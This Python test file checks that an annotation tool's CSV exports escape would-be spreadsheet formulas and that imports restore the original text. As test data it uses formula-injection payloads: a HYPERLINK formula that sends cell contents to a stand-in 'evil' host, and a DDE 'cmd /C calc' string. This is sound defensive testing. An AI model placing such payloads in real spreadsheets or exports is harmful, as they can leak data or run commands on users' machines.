"""Every CSV Quorum writes escapes would-be spreadsheet formulas, and every import undoes it."""

import csv
import io
import json

import pandas as pd
import pytest
from conftest import make_study, make_user
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from annotation.imports import import_items, import_labels
from annotation.models import Annotation, Item, StudyMembership
from annotation.spreadsheet import PLAIN_NUMBER, TRIGGERS, escape_cell, unescape_cell

HYPERLINK = '=HYPERLINK("http://evil/?x="&A1,"click")'
CALC = "+cmd|' /C calc'!A0"

cells = st.one_of(
    st.text(),
    st.builds(str.__add__, st.sampled_from([*TRIGGERS, "''", "'-", "'1", "-1"]), st.text()),
    st.from_regex(PLAIN_NUMBER, fullmatch=True),
    st.builds(str.__add__, st.just("'"), st.from_regex(PLAIN_NUMBER, fullmatch=True)),
)


@given(cells)
def test_it_undoes_its_own_escape_on_every_string(text):
    assert unescape_cell(escape_cell(text)) == text


@given(cells)
def test_it_escapes_each_unescaped_export_cell_back_to_itself(text):
    cell = escape_cell(text)
    assert escape_cell(unescape_cell(cell)) == cell


@pytest.mark.parametrize(
    "text", ["-0.5", "+3", "1e-3", "-2.5E+10", ".5", "-7.", "", "plain", "q17", "a=b"]
)
def test_it_leaves_numbers_and_ordinary_text_alone(text):
    assert escape_cell(text) == text
    assert unescape_cell(text) == text


@pytest.mark.parametrize("text", ["'", "'tis", "'1", "'-0.5", "' =x"])
def test_it_keeps_a_leading_quote_that_it_did_not_add(text):
    assert unescape_cell(text) == text


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, CALC, "-", "-inf", "-1+1", "- 3", "@SUM(A1)", "\tx", "\rx", "'=x", "''", "'-1"],
)
def test_it_puts_one_quote_before_a_would_be_formula(text):
    assert escape_cell(text) == "'" + text
    assert unescape_cell("'" + text) == text


@pytest.fixture
def items_file(write):
    """Two items: one whose id is a formula, and a metadata field named like one."""
    items = [
        {"external_id": CALC, "metadata": {"-lang": "en"}},
        {"external_id": "i2", "metadata": {"-lang": "fr"}},
    ]
    return write(
        "items.jsonl",
        "".join(
            json.dumps(
                {
                    "prompt": "p",
                    "responses": [{"text": "a", "model": "m1"}, {"text": "bb", "model": "m2"}],
                    **item,
                }
            )
            + "\n"
            for item in items
        ),
    )


@pytest.fixture
def source(db, items_file, write):
    """A study whose raters, ids, answers and rationales would run in a spreadsheet. +bob and
    carol always disagree, so their kappa is -1: a negative number in the report."""
    study = make_study(slug="src")
    import_items(study, items_file)
    rows = [
        ("item", "rater", "kind", "question", "value", "confidence", "rationale"),
        (CALC, "+bob", "human", "pref", "A", "", ""),
        (CALC, "+bob", "human", "why", HYPERLINK, "", ""),
        (CALC, "carol", "human", "pref", "B", "", ""),
        (CALC, "dave", "human", "pref", "A", "", ""),
        (CALC, "=judge", "llm", "pref", "A", "-0.5", "\tindented"),
        ("i2", "+bob", "human", "pref", "B", "", ""),
        ("i2", "+bob", "human", "why", "-12.5", "", ""),
        ("i2", "carol", "human", "pref", "A", "", ""),
        ("i2", "dave", "human", "pref", "A", "", ""),
        ("i2", "=judge", "llm", "pref", "A", "0.25", "'tis fine"),
    ]
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    import_labels(study, write("labels.csv", text.getvalue()))
    return study


def export(slug, path):
    call_command("export", slug, "--format", "csv", "--out", str(path), stderr=io.StringIO())
    return path.read_bytes()


def test_it_escapes_formulas_in_the_exported_label_csv(source, tmp_path):
    assert export("src", tmp_path / "labels.csv").decode() == (
        "item,rater,kind,question,value,order,confidence,rationale\r\n"
        "'+cmd|' /C calc'!A0,'+bob,human,pref,A,,,\r\n"
        "'+cmd|' /C calc'!A0,'+bob,human,why,"
        '"\'=HYPERLINK(""http://evil/?x=""&A1,""click"")",,,\r\n'
        "'+cmd|' /C calc'!A0,carol,human,pref,B,,,\r\n"
        "'+cmd|' /C calc'!A0,dave,human,pref,A,,,\r\n"
        "'+cmd|' /C calc'!A0,'=judge,llm,pref,A,,-0.5,'\tindented\r\n"
        "i2,'+bob,human,pref,B,,,\r\n"
        "i2,'+bob,human,why,-12.5,,,\r\n"
        "i2,carol,human,pref,A,,,\r\n"
        "i2,dave,human,pref,A,,,\r\n"
        "i2,'=judge,llm,pref,A,,0.25,''tis fine\r\n"
    )


def test_it_imports_an_escaped_export_as_the_original_text_and_exports_the_same_bytes(
    source, items_file, tmp_path
):
    first = export("src", tmp_path / "first.csv")
    copy = make_study(slug="copy")
    import_items(copy, items_file)
    call_command("import_labels", "copy", str(tmp_path / "first.csv"), stdout=io.StringIO())

    assert export("copy", tmp_path / "second.csv") == first
    labels = Annotation.objects.filter(item__study=copy)
    assert set(labels.values_list("rater__name", flat=True)) == {"+bob", "carol", "dave", "=judge"}
    assert set(labels.values_list("item__external_id", flat=True)) == {CALC, "i2"}
    whys = {a.answers["why"] for a in labels if "why" in a.answers}
    assert whys == {HYPERLINK, "-12.5"}
    judged = labels.filter(rater__name="=judge").order_by("item__position")
    assert [a.confidences["pref"] for a in judged] == [-0.5, 0.25]
    assert [a.rationales["pref"] for a in judged] == ["\tindented", "'tis fine"]


@pytest.mark.django_db
def test_it_unescapes_every_cell_of_an_item_csv(write):
    study = make_study()
    path = write(
        "items.csv",
        "external_id,prompt,response_a,response_b,reference,'=cat\r\n"
        "'=1+1,'-p,'@a,''b,'tis,'+x\r\n",
    )
    import_items(study, path)
    item = Item.objects.get(study=study)
    assert item.external_id == "=1+1"
    assert item.prompt == "-p"
    assert [r["text"] for r in item.responses] == ["@a", "'b"]
    assert item.reference == "'tis"
    assert item.metadata == {"=cat": "+x"}


def test_it_escapes_the_text_cells_of_the_report_csv(source, client):
    out = io.StringIO()
    call_command("report", "src", "--format", "csv", stdout=out)
    client.force_login(make_user("rita", StudyMembership.Role.RESEARCHER, source))
    page = client.get("/studies/src/report/?format=csv").content.decode()
    assert page == out.getvalue()

    rows = list(csv.DictReader(io.StringIO(page)))
    assert {r["rater"] for r in rows if r["group"] == "judge"} == {"'=judge"}
    pairs = {r["rater"] for r in rows if r["group"] == "human pair"}
    assert pairs == {"'+bob | carol", "'+bob | dave", "carol | dave"}
    assert {"'-lang=en", "'-lang=fr"} <= {r["group"] for r in rows}
    kappa = [
        r["value"] for r in rows if r["rater"] == "'+bob | carol" and r["metric"] == "cohen_kappa"
    ]
    assert kappa == ["-1.0"]
    parquet = client.get("/studies/src/report/?format=parquet").content
    assert "=judge" in set(pd.read_parquet(io.BytesIO(parquet))["rater"])


def test_it_gives_the_agreement_command_the_original_rater_names(source, tmp_path):
    export("src", tmp_path / "labels.csv")
    out = io.StringIO()
    call_command(
        "agreement",
        str(tmp_path / "labels.csv"),
        "--question",
        "pref",
        "--bootstrap",
        "0",
        stdout=out,
    )
    result = json.loads(out.getvalue())
    pairs = {(p["a"], p["b"]) for p in result["humans"]["pairwise"]}
    assert pairs == {("+bob", "carol"), ("+bob", "dave"), ("carol", "dave")}
    assert [j["rater"] for j in result["judges"]] == ["=judge"]
